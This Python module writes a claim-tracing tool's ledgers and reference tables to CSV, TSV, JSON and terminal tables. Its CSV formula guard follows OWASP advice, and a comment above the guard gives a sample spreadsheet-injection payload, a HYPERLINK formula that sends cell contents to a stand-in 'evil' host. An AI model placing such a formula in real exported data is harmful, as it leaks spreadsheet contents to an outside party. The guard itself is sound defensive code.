"""Writers turn ledgers into formats. A writer never parses or classifies.

Every writer streams: `begin()`, then `document(ledger)` once per document as it is produced,
then `end(summary)`. CSV and TSV use the `excel` dialect (tab-delimited for TSV); list-valued
cells are joined with `;` (`citations` = `2;3;4`, `markers` = `[2-4];[7]`).

Two tables can be written: the claim ledger (`LEDGER`, one row a sentence) and the reference
table (`REFERENCES`, one row a reference-list entry, for `claimtrace references`).
"""

from __future__ import annotations

import csv
import json
import re
from enum import Enum
from dataclasses import dataclass
from typing import IO, Any, Callable

from .errors import UsageError
from .kinds import Kind
from .ledger import DocumentLedger, Record, Reference, Summary
from .text import printable


class Format(str, Enum):
    """Output formats of `claimtrace extract`."""

    csv = "csv"
    tsv = "tsv"
    jsonl = "jsonl"
    json = "json"
    table = "table"


# Flat columns of CSV/TSV output, in order.
COLUMNS = (
    "doc", "id", "section", "paragraph", "sentence", "start", "end", "text", "is_claim",
    "score", "kind", "lang", "citations", "markers", "marker_offsets", "marker_scopes", "marker_locators",
    "linked_references", "links", "flags", "why",
)
LIST_SEPARATOR = ";"


def _join(values) -> str:
    return LIST_SEPARATOR.join(str(v) for v in values)


# The same order as `Reference.to_dict()`, so CSV and JSON Lines read alike.
REFERENCE_COLUMNS = (
    "doc", "number", "text", "start", "end", "urls", "doi", "year", "title", "authors", "container",
    "volume", "issue", "pages", "accessed", "label", "cited_by", "cited_by_claims",
)


def flat_reference(doc: str, ref: Reference) -> dict[str, Any]:
    """A reference-list entry as one CSV row (URLs joined with `;`)."""
    return {
        "doc": doc, "number": ref.number, "text": ref.text, "urls": _join(ref.urls),
        "doi": ref.doi or "", "year": ref.year or "", "title": ref.title or "",
        "authors": _join(ref.authors), "container": ref.container or "", "volume": ref.volume or "",
        "issue": ref.issue or "", "pages": ref.pages or "", "accessed": ref.accessed or "",
        "label": ref.label or "",
        "cited_by": ref.cited_by, "cited_by_claims": ref.cited_by_claims,
        "start": ref.start, "end": ref.end,
    }


@dataclass(frozen=True)
class Table:
    """Which rows of a ledger a writer writes, as flat rows (CSV) and as dicts (JSON)."""

    columns: tuple[str, ...]
    rows: Callable[[DocumentLedger, bool], list]
    flat: Callable[[DocumentLedger, Any], dict[str, Any]]
    as_dict: Callable[[DocumentLedger, Any], dict[str, Any]]
    document: Callable[[DocumentLedger, bool], dict[str, Any]]  # one document in JSON output


LEDGER = Table(
    COLUMNS,
    lambda ledger, include_all: ledger.rows(include_all),
    lambda ledger, record: flat_row(record),
    lambda ledger, record: record.to_dict(),
    lambda ledger, include_all: ledger.to_dict(include_all),
)
REFERENCES = Table(
    REFERENCE_COLUMNS,
    lambda ledger, include_all: list(ledger.references),
    lambda ledger, ref: flat_reference(ledger.doc, ref),
    lambda ledger, ref: {"doc": ledger.doc, **ref.to_dict()},
    lambda ledger, include_all: {
        "doc": ledger.doc,
        "references": [ref.to_dict() for ref in ledger.references],
        "integrity": ledger.integrity.to_dict() if ledger.integrity else None,
    },
)


def flat_row(record: Record) -> dict[str, Any]:
    """A record as one CSV row: booleans as `true`/`false`, lists joined with `;`."""
    return {
        "doc": record.doc,
        "id": record.id,
        "section": record.section or "",
        "paragraph": record.paragraph,
        "sentence": record.sentence,
        "start": record.start,
        "end": record.end,
        "text": record.text,
        "is_claim": "true" if record.is_claim else "false",
        "score": "" if record.score is None else f"{record.score:.4f}",
        "kind": record.kind.value,
        "lang": record.lang,
        "citations": _join(record.citations),
        "markers": _join(m.raw for m in record.markers),
        "marker_offsets": _join(f"{m.start}-{m.end}" for m in record.markers),
        "marker_scopes": _join(m.scope for m in record.markers),
        "marker_locators": _join(m.locator for m in record.markers) if any(m.locator for m in record.markers) else "",
        "linked_references": _join(record.linked_references),
        "links": _join(link.url for link in record.links),
        "flags": _join(record.flags),
        "why": record.why,
    }


class Writer:
    """Base writer: subclasses override the three hooks."""

    def __init__(self, stream: IO[str], include_all: bool = False, table: Table = LEDGER):
        self.stream = stream
        self.include_all = include_all
        self.table = table

    def begin(self) -> None:
        pass

    def document(self, ledger: DocumentLedger) -> None:
        raise NotImplementedError

    def end(self, summary: Summary) -> None:
        pass


# A cell starting with one of these is run as a formula by spreadsheets (CSV injection, OWASP):
# `=HYPERLINK("http://evil/?"&A2, "See source [1]")` in a sentence would leak the sheet.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """A cell that no spreadsheet runs as a formula: OWASP's advice, a leading `'` before a
    text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return. Plain numbers
    (`-0.5`) stay numbers."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class DelimitedWriter(Writer):
    """CSV (`excel` dialect) or TSV (`excel-tab`), one row a record, header first.

    Cells are made safe for spreadsheets (`safe_cell`) unless `raw_cells` is set.
    """

    def __init__(self, stream, include_all=False, table=LEDGER, dialect="excel", raw_cells=False):
        super().__init__(stream, include_all, table)
        self.writer = csv.DictWriter(stream, fieldnames=table.columns, dialect=dialect)
        self.raw_cells = raw_cells

    def begin(self):
        self.writer.writeheader()

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            flat = self.table.flat(ledger, row)
            self.writer.writerow(flat if self.raw_cells else {k: safe_cell(v) for k, v in flat.items()})


class JsonLinesWriter(Writer):
    """One JSON object a record, one record a line."""

    def document(self, ledger):
        for row in self.table.rows(ledger, self.include_all):
            self.stream.write(json.dumps(self.table.as_dict(ledger, row), ensure_ascii=False) + "\n")


class JsonWriter(Writer):
    """`{"documents": [...], "summary": {...}}`, each document written as soon as it is done."""

    def begin(self):
        self.count = 0
        self.stream.write('{"documents": [')

    def document(self, ledger):
        self.stream.write(("," if self.count else "") + "\n")
        document = self.table.document(ledger, self.include_all)
        self.stream.write(json.dumps(document, ensure_ascii=False, indent=2))
        self.count += 1

    def end(self, summary):
        self.stream.write(("\n" if self.count else "") + '], "summary": ')
        self.stream.write(json.dumps(summary.to_dict()) + "}\n")


class TableWriter(Writer):
    """Rich tables for people reading a terminal; not meant for machines.

    A document's rows go out in tables of `CHUNK` rows with fixed column widths, so that a long
    document streams (and `| head` stops it early) instead of being rendered whole first.
    Control characters in document names and text are shown escaped.
    """

    CHUNK = 50
    # (name, style, width): fixed, so that the chunks of one document line up.
    COLUMNS = (("#", "dim", 6), ("kind", "cyan", 11), ("claim", None, 5), ("score", None, 5),
               ("cites", "magenta", 10), ("text", None, None))

    def begin(self):
        from rich.console import Console

        class _Console(Console):
            def on_broken_pipe(self) -> None:
                raise BrokenPipeError  # the caller decides how a closed pipe ends the run

        self.console = _Console(file=self.stream)

    def document(self, ledger):
        from rich.markup import escape
        from rich.table import Table

        rows = ledger.rows(self.include_all)
        for first in range(0, max(len(rows), 1), self.CHUNK):
            table = Table(title=escape(printable(ledger.doc)) if first == 0 else None,
                          expand=True, show_header=first == 0)
            for name, style, width in self.COLUMNS:
                table.add_column(name, style=style, overflow="fold", width=width, no_wrap=False)
            for r in rows[first : first + self.CHUNK]:
                table.add_row(*self._cells(r, escape))
            self.console.print(table)

    @staticmethod
    def _cells(r: Record, escape: Callable[[str], str]) -> tuple[str, ...]:
        claim = "[green]yes[/]" if r.is_claim else ("" if r.kind is Kind.HEADING else "no")
        cites = ",".join(map(str, r.citations)) or ("[red]none[/]" if r.is_claim else "")
        # Escaped: the text holds `[1]`-style markers that rich would read as markup.
        text = escape(printable(r.text))
        return (r.id.rsplit("#", 1)[-1], r.kind.value, claim, "–" if r.score is None else f"{r.score:.2f}", cites,
                f"[bold]{text}[/]" if r.kind is Kind.HEADING else text)


def make_writer(
    fmt: Format, stream: IO[str], include_all: bool = False, table: Table = LEDGER,
    raw_cells: bool = False,
) -> Writer:
    """The writer for `fmt` writing `table` (the claim ledger by default) to `stream`.

    `raw_cells` turns off the formula guard of CSV and TSV (see `safe_cell`).
    """
    if fmt is Format.csv:
        return DelimitedWriter(stream, include_all, table, raw_cells=raw_cells)
    if fmt is Format.tsv:
        return DelimitedWriter(stream, include_all, table, dialect="excel-tab", raw_cells=raw_cells)
    if fmt is Format.jsonl:
        return JsonLinesWriter(stream, include_all, table)
    if fmt is Format.json:
        return JsonWriter(stream, include_all, table)
    if table is not LEDGER:
        raise UsageError("the table format shows the claim ledger only; choose csv, tsv, jsonl or json")
    return TableWriter(stream, include_all, table)


def format_for_path(path: str) -> Format | None:
    """The format a file name's extension implies (`out.tsv` → tsv), or None."""
    suffix = path.rsplit(".", 1)[-1].lower() if "." in path else ""
    return {f.value: f for f in Format if f is not Format.table}.get(suffix)
